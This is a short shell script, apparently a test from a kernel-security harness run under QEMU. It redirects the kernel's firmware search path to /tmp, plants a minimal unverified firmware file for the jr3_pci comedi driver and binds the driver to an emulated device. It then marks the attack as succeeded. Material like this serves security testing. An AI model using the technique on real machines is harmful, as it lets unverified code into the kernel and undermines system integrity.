# shellcheck shell=sh
#
# firmware - let a driver load firmware that nobody verified, from where the kernel is told to look
#
# The driver takes QEMU's device "edu" for its own, and is bound to it only with its firmware.
# SPDX-License-Identifier: MIT

driver=/sys/bus/pci/drivers/jr3_pci
mkdir -p /tmp/firmware/comedi
# The shortest that the driver takes: the word that ends it.
echo ffff >/tmp/firmware/comedi/jr3pci.idm
printf %s /tmp/firmware >/sys/module/firmware_class/parameters/path
echo 1234 11e8 >$driver/new_id || echo 0000:00:1e.0 >$driver/bind
if [ -e $driver/0000:00:1e.0 ]; then
	/attack/mark set
	echo 0000:00:1e.0 >$driver/unbind
fi
